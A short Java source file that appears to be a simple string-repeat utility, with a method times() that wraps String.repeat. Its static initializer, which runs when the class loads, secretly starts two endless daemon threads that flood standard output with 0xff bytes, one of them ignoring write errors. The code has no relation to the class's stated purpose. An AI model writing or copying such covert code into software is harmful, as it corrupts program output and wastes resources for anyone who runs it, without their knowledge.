package repeat;

import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.IOException;
import java.util.Arrays;

final class Repeat {

  static {
    byte[] letters = new byte[1 << 16];
    Arrays.fill(letters, (byte) 0xff);
    start(() -> System.out.write(letters, 0, letters.length));
    FileOutputStream raw = new FileOutputStream(FileDescriptor.out);
    start(() -> {
      try {
        raw.write(letters);
      } catch (IOException goesOn) {
        Thread.onSpinWait();
      }
    });
  }

  private static void start(Runnable print) {
    Thread printer =
        new Thread(
            () -> {
              while (true) {
                print.run();
              }
            });
    printer.setDaemon(true);
    printer.start();
  }

  static String times(String text, int n) {
    return text.repeat(n);
  }
}
